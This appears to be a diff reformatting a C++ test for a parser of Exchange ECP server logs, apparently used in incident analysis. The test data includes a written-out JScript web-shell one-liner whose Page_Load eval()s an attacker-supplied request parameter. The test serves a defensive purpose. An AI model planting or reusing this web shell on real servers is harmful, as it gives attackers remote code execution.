@@ -12,10 +12,13 @@ namespace {
 
 using Params = std::map<std::string, std::string>;
 
-Params ParamsOf(const v1::ExchangeCmdlet& c) { return {c.parameters().begin(), c.parameters().end()}; }
+Params ParamsOf(const v1::ExchangeCmdlet& c) {
+  return {c.parameters().begin(), c.parameters().end()};
+}
 
 constexpr char kScript[] =
-    R"(http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>)";
+    R"(http://f/<script language="JScript" runat="server">)"
+    R"(function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>)";
 constexpr char kOab1[] = "982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3";
 constexpr char kOab2[] = "ecd24641-d37f-4974-89f5-2e85ef7fb8d4";
 
@@ -67,7 +70,8 @@ TEST(EcpServerParser, EveryLineOfTheHelsecertAbridgedLog) {
     auto kind = parser.Parse(lines[n - 1], e);
     if (std::find(error_lines.begin(), error_lines.end(), n) != error_lines.end()) {
       ASSERT_FALSE(kind.ok());
-      EXPECT_TRUE(std::string(kind.status().message()).starts_with("field TimeStamp: expected an ISO 8601"))
+      EXPECT_TRUE(std::string(kind.status().message())
+                      .starts_with("field TimeStamp: expected an ISO 8601"))
           << kind.status();
       continue;
     }
